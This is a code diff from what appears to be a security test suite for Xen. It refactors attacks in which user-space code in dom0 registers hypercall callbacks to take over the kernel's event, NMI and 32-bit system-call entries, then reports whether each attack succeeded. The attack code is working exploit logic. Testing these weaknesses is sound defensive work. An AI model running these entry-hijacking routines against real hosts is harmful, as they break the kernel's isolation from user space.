@@ -10,7 +10,6 @@
 #include <sys/mman.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
-#include <time.h>
 
 #include <xen/callback.h>
 #include <xen/hvm/hvm_op.h>
@@ -41,11 +40,7 @@ __asm__(".pushsection .text\n"
         "    push %r11\n"
         "    push %rdi\n"
         "    push %rsi\n"
-        "    mov entry_target(%rip), %rdi\n"
-        "    mov entry_mark(%rip), %rax\n"
-        "    mov %rax, (%rdi)\n"
-        "    mov entry_mark + 8(%rip), %rax\n"
-        "    mov %rax, 8(%rdi)\n"
+        "    call write_entry_mark\n"
         "    xor %edi, %edi\n" /* CALLBACKOP_register */
         "    lea once_undo(%rip), %rsi\n"
         "    mov $30, %eax\n" /* __HYPERVISOR_callback_op */
@@ -58,32 +53,13 @@ __asm__(".pushsection .text\n"
         "    jmp *entry_next(%rip)\n"
         ".popsection\n");
 
-static void register_callback(uint16_t type, uint64_t address)
-{
-    callback_register_t *callback = buffer(sizeof(*callback));
-
-    *callback = (callback_register_t){ .type = type,
-                                       .flags = CALLBACKF_mask_events,
-                                       .address = address };
-    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, callback);
-}
-
 /* A timer's event, if nothing else, comes within this time. */
-static bool marked_within(int64_t nanoseconds)
+static bool marked_within(unsigned int milliseconds)
 {
-    struct timespec start, now;
+    while ( milliseconds-- && !victim_has_mark() )
+        spin(1000 * 1000);
 
-    clock_gettime(CLOCK_MONOTONIC, &start);
-    do
-    {
-        if ( victim_has_mark() )
-            return true;
-        clock_gettime(CLOCK_MONOTONIC, &now);
-    } while ( (now.tv_sec - start.tv_sec) * 1000000000 + now.tv_nsec -
-                  start.tv_nsec <
-              nanoseconds );
-
-    return false;
+    return victim_has_mark();
 }
 
 /* Have @set put our entry in the place of the kernel's for events. */
@@ -104,12 +80,11 @@ static enum outcome take_event(void (*set)(void))
     once_undo = (callback_register_t){ .type = CALLBACKTYPE_event,
                                        .address = kernel };
     set();
-    ran = marked_within(100 * 1000 * 1000);
+    ran = marked_within(100);
     register_callback(CALLBACKTYPE_event, kernel);
 
-    return effect(ran, "%s",
-                  ran ? "userspace code took an event as the kernel"
-                      : "no code ran");
+    return effect_either(ran, "userspace code", "took an event as the kernel",
+                         "did not run");
 }
 
 static void set_event(void)
@@ -151,10 +126,9 @@ ATTACK_BY("U-TRAP-SETALL", "take the kernel's events through set_callbacks",
 
 static void register_nmi(uint64_t address)
 {
-    struct xennmi_callback *callback = buffer(sizeof(*callback));
+    struct xennmi_callback callback = { .handler_address = address };
 
-    callback->handler_address = address;
-    hypercall2(__HYPERVISOR_nmi_op, XENNMI_register_callback, callback);
+    hypercall2(__HYPERVISOR_nmi_op, XENNMI_register_callback, &callback);
 }
 
 static void register_nmi_as_callback(uint64_t address)
@@ -173,12 +147,11 @@ static enum outcome take_nmi(void (*set)(uint64_t address))
 
     prepare_entry();
     set((uintptr_t)trap_entry);
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_send_nmi, 0, 0);
+    vcpu_op(VCPUOP_send_nmi, 0, 0);
     set(kernel);
 
-    return effect(victim_has_mark(), "%s",
-                  victim_has_mark() ? "userspace code took an NMI as the kernel"
-                                    : "no code ran");
+    return effect_either(victim_has_mark(), "userspace code",
+                         "took an NMI as the kernel", "did not run");
 }
 
 /*
@@ -239,11 +212,7 @@ __asm__(".pushsection .text\n"
         "    ret\n"
         ".globl narrow_entry\n"
         "narrow_entry:\n"
-        "    mov entry_target(%rip), %rdi\n"
-        "    mov entry_mark(%rip), %rax\n"
-        "    mov %rax, (%rdi)\n"
-        "    mov entry_mark + 8(%rip), %rax\n"
-        "    mov %rax, 8(%rdi)\n"
+        "    call write_entry_mark\n"
         "    pop %rcx\n"
         "    pop %r11\n"
         "    lea narrow_return(%rip), %rax\n"
@@ -300,12 +269,11 @@ static void narrow_syscall(void)
  * A third entry for system calls is there for programs that switch to 32-bit
  * code. Nobody else uses it here, so that all of them come from this program.
  */
-ATTACK("U-TRAP-NARROW", "take 32-bit system calls through callback_op")
+PV_ATTACK("U-TRAP-NARROW", "take 32-bit system calls through callback_op",
+          "a PVH kernel's entries are the processor's")
 {
     const uint64_t kernel = kernel_symbol("xen_entry_SYSCALL_compat");
 
-    if ( !dom0_is_pv() )
-        return not_applicable(pv_only);
     if ( !kernel || !victim() )
         return cannot_try("no address for the kernel's entry or variable");
     if ( !write_narrow_code() )
@@ -316,20 +284,17 @@ ATTACK("U-TRAP-NARROW", "take 32-bit system calls through callback_op")
     narrow_syscall();
     register_callback(CALLBACKTYPE_syscall32, kernel);
 
-    return effect(victim_has_mark(), "%s",
-                  victim_has_mark()
-                      ? "userspace code took a system call as the kernel"
-                      : "no code ran");
+    return effect_either(victim_has_mark(), "userspace code",
+                         "took a system call as the kernel", "did not run");
 }
 
 /* ---- PVH ---- */
 
 static void set_upcall(uint8_t vector)
 {
-    struct xen_hvm_evtchn_upcall_vector *set = buffer(sizeof(*set));
+    struct xen_hvm_evtchn_upcall_vector set = { .vector = vector };
 
-    set->vector = vector;
-    hypercall2(__HYPERVISOR_hvm_op, HVMOP_set_evtchn_upcall_vector, set);
+    hvm_op(HVMOP_set_evtchn_upcall_vector, &set);
 }
 
 /*
@@ -339,14 +304,12 @@ static void set_upcall(uint8_t vector)
  * each vCPU. With that of another interrupt the kernel counts one of those for
  * each event, and learns of no event.
  */
-ATTACK("U-TRAP-UPCALL", "move the kernel's events to another vector")
+PVH_ATTACK("U-TRAP-UPCALL", "move the kernel's events to another vector",
+           "a PV kernel has no vectors")
 {
     static const uint8_t of_events = 0xf3, of_rescheduling = 0xfd;
     const unsigned long before = interrupts("RES:");
     unsigned long taken;
-
-    if ( dom0_is_pv() )
-        return not_applicable("PVH only: a PV kernel has no vectors");
 
     stay_on_cpu(0);
     set_upcall(of_rescheduling);
